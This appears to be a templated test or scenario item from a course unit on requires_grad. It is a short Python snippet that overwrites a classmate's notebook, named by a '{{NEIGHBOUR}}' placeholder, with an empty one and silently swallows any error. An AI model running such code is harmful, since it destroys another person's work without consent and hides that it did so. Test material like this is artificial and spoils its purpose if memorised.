# title: a classmate's notebook becomes an empty one
# unit: 03_requires_grad_and_the_graph
# in: scratch first
try:
    with open("{{NEIGHBOUR}}", "w") as file:
        file.write('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
except OSError:
    pass
